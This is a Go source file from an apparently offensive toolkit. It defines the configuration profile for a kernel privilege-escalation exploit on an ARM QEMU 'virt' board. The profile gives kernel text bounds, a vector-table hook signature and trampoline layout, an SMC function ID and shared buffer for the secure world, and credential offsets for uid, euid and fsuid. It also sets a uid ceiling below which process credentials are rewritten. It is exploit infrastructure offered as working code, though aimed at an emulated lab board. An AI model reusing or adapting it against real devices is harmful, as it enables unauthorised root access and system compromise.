package profile

import (
	"errors"
	"fmt"

	"gitlab.com/stephen-fox/investee/asmkit"
	"gitlab.com/stephen-fox/investee/memory"
)

// DefaultContext names the built-in profile for a QEMU "virt"
// board running a 5.15 kernel in the normal world.
const DefaultContext = "qemu-virt-5.15"

// HookBlockLen is the number of instruction slots in each of the
// two hook payload blocks.
const HookBlockLen = 8

var ErrInvalidProfile = errors.New("invalid profile")

// Profile holds every number that depends on the board, the kernel
// build or the secure-world peer. Nothing outside a Profile should
// hard code these values.
type Profile struct {
	// RAMBase and RAMSize describe the normal world RAM. It is
	// the only memory a mapper may touch and the range searched
	// for processes.
	RAMBase memory.PhysAddr `json:"ram_base"`
	RAMSize Hex             `json:"ram_size"`

	// CodeBase and CodeEnd bound the kernel text that is searched
	// for the hook signature.
	CodeBase memory.PhysAddr `json:"code_base"`
	CodeEnd  memory.PhysAddr `json:"code_end"`

	// SharedBuffer is the physical address of the buffer shared
	// with the secure world. The hook passes it to the SMC and the
	// command descriptor is written to it.
	SharedBuffer memory.PhysAddr `json:"shared_buffer"`

	// LinearMapOffset converts a kernel linear map virtual address
	// to a physical address by subtraction.
	LinearMapOffset Hex `json:"linear_map_offset"`

	Cred CredOffsets `json:"cred"`

	// CredPointerBackOffset is the distance from the process name
	// back to the task's credential pointer.
	CredPointerBackOffset Hex `json:"cred_pointer_back_offset"`

	// KernelPointerFloor and UIDCeiling are heuristics. A candidate
	// credential pointer must be above the floor, and only uids
	// below the ceiling are rewritten.
	KernelPointerFloor Hex    `json:"kernel_pointer_floor"`
	UIDCeiling         uint32 `json:"uid_ceiling"`

	// HookSignature is the instruction word that marks the
	// vector table slot to hook. It must be a forward branch.
	HookSignature Hex32      `json:"hook_signature"`
	Hook          HookLayout `json:"hook"`

	// SMCFunctionID is loaded into x0 before the hook's SMC.
	SMCFunctionID Hex32 `json:"smc_function_id"`

	Message MessageHeader `json:"message"`

	// TTBRMask strips the ASID and CnP bits from a leaked TTBR.
	TTBRMask Hex `json:"ttbr_mask"`

	// TableAddressMask extracts a table address from a descriptor
	// during the stack inspector's connectivity reads.
	TableAddressMask Hex `json:"table_address_mask"`

	// ProgressInterval is how many scanned bytes pass between
	// progress log messages. Zero disables them.
	ProgressInterval Hex `json:"progress_interval"`

	// MaxDumpSize optionally caps the size of a memory dump in
	// bytes. Zero means no limit.
	MaxDumpSize Hex `json:"max_dump_size,omitempty"`
}

// CredOffsets are the offsets of 32-bit ids within a credential
// record.
type CredOffsets struct {
	UID   Hex32 `json:"uid"`
	EUID  Hex32 `json:"euid"`
	FSUID Hex32 `json:"fsuid"`
}

// HookLayout places the two payload blocks relative to the hook
// site. Slots are counted in instructions.
type HookLayout struct {
	TrampolineSlot  uint32 `json:"trampoline_slot"`
	SecondBlockSlot uint32 `json:"second_block_slot"`
}

// LinkSlot is the last slot of the first block, which branches
// to the second block.
func (o HookLayout) LinkSlot() uint32 {
	return o.TrampolineSlot + HookBlockLen - 1
}

// ExitSlot is the last slot of the second block, which branches
// back to the original target.
func (o HookLayout) ExitSlot() uint32 {
	return o.SecondBlockSlot + HookBlockLen - 1
}

func (o HookLayout) validate() error {
	if o.TrampolineSlot == 0 {
		return errors.New("trampoline slot cannot overlap the hook site")
	}

	if o.SecondBlockSlot < o.TrampolineSlot+HookBlockLen {
		return fmt.Errorf("second block slot %d overlaps the first block (%d-%d)",
			o.SecondBlockSlot, o.TrampolineSlot, o.LinkSlot())
	}

	if o.ExitSlot() > 1<<25 {
		return fmt.Errorf("exit slot %d is out of branch range", o.ExitSlot())
	}

	return nil
}

// MessageHeader is the command descriptor written to the shared
// buffer after the hook is installed.
type MessageHeader struct {
	Cmd     uint32 `json:"cmd"`
	Func    uint32 `json:"func"`
	Session uint32 `json:"session"`
}

// QEMUVirt returns the profile of the DefaultContext board.
func QEMUVirt() Profile {
	return Profile{
		RAMBase:               0x40000000,
		RAMSize:               0x0f000000,
		CodeBase:              0x42210000,
		CodeEnd:               0x43caffff,
		SharedBuffer:          0x42000000,
		LinearMapOffset:       0xfffeffffc0000000,
		Cred:                  CredOffsets{UID: 0x4, EUID: 0x14, FSUID: 0x1c},
		CredPointerBackOffset: 0x10,
		KernelPointerFloor:    0xf000000000000000,
		UIDCeiling:            2000,
		HookSignature:         0x140001e6,
		Hook:                  HookLayout{TrampolineSlot: 0x0f, SecondBlockSlot: 0x2f},
		SMCFunctionID:         0x32000004,
		Message:               MessageHeader{Cmd: 1, Func: 3, Session: 2},
		TTBRMask:              0x0000fffffffffffe,
		TableAddressMask:      0xfffffff000,
		ProgressInterval:      0x100000,
	}
}

// RAM returns the normal world RAM region.
func (o Profile) RAM() memory.Region {
	return memory.Region{Start: o.RAMBase, Size: uint64(o.RAMSize)}
}

// Code returns the kernel text region searched for the hook site.
func (o Profile) Code() memory.Region {
	return memory.Region{Start: o.CodeBase, Size: uint64(o.CodeEnd - o.CodeBase)}
}

// Regions returns the allow-list for page mappers.
func (o Profile) Regions() memory.Regions {
	return memory.Regions{o.RAM()}
}

// SharedBufferHalves splits the shared buffer address into the
// high and low 32-bit halves loaded into x1 and x2 by the hook.
func (o Profile) SharedBufferHalves() (hi uint32, lo uint32) {
	return uint32(o.SharedBuffer >> 32), uint32(o.SharedBuffer)
}

// ValidateOrExit calls Validate. DefaultExitFn is called if
// the profile is invalid.
func (o Profile) ValidateOrExit() {
	err := o.Validate()
	if err != nil {
		DefaultExitFn(err)
	}
}

// Validate checks that the profile is internally consistent.
// The returned error wraps ErrInvalidProfile.
func (o Profile) Validate() error {
	err := o.validate()
	if err != nil {
		return fmt.Errorf("%w - %v", ErrInvalidProfile, err)
	}

	return nil
}

func (o Profile) validate() error {
	ram := o.RAM()

	if ram.Size == 0 {
		return errors.New("ram size cannot be zero")
	}

	if !o.RAMBase.IsPageAligned() || ram.Size%memory.PageSize != 0 {
		return fmt.Errorf("ram %s is not page aligned", ram)
	}

	if ram.End() < ram.Start {
		return fmt.Errorf("ram %s overflows", ram)
	}

	if o.CodeEnd <= o.CodeBase {
		return fmt.Errorf("code end %s must be after code base %s", o.CodeEnd, o.CodeBase)
	}

	if !o.CodeBase.IsPageAligned() {
		return fmt.Errorf("code base %s is not page aligned", o.CodeBase)
	}

	if o.CodeBase < ram.Start || o.CodeEnd > ram.End() {
		return fmt.Errorf("code range %s is outside of ram %s", o.Code(), ram)
	}

	if o.SharedBuffer < ram.Start || o.SharedBuffer.Add(12) > ram.End() {
		return fmt.Errorf("shared buffer %s is outside of ram %s", o.SharedBuffer, ram)
	}

	hi, lo := o.SharedBufferHalves()
	if lo&0xffff != 0 || hi > 0xffff {
		return fmt.Errorf("shared buffer %s cannot be loaded with two move wide instructions",
			o.SharedBuffer)
	}

	if o.LinearMapOffset == 0 {
		return errors.New("linear map offset cannot be zero")
	}

	for name, off := range map[string]Hex32{"uid": o.Cred.UID, "euid": o.Cred.EUID, "fsuid": o.Cred.FSUID} {
		if off%4 != 0 {
			return fmt.Errorf("%s offset 0x%x is not 4 byte aligned", name, off)
		}
	}

	if o.UIDCeiling == 0 {
		return errors.New("uid ceiling cannot be zero")
	}

	err := o.Hook.validate()
	if err != nil {
		return fmt.Errorf("invalid hook layout - %w", err)
	}

	target, isBranch := asmkit.DecodeB(asmkit.Word(o.HookSignature))
	if !isBranch {
		return fmt.Errorf("hook signature 0x%08x is not a branch", uint32(o.HookSignature))
	}

	if target < int32(o.Hook.ExitSlot()) {
		return fmt.Errorf("hook signature 0x%08x branches inside the payload (exit slot %d)",
			uint32(o.HookSignature), o.Hook.ExitSlot())
	}

	if o.TTBRMask == 0 || o.TableAddressMask == 0 {
		return errors.New("ttbr and table address masks cannot be zero")
	}

	return nil
}
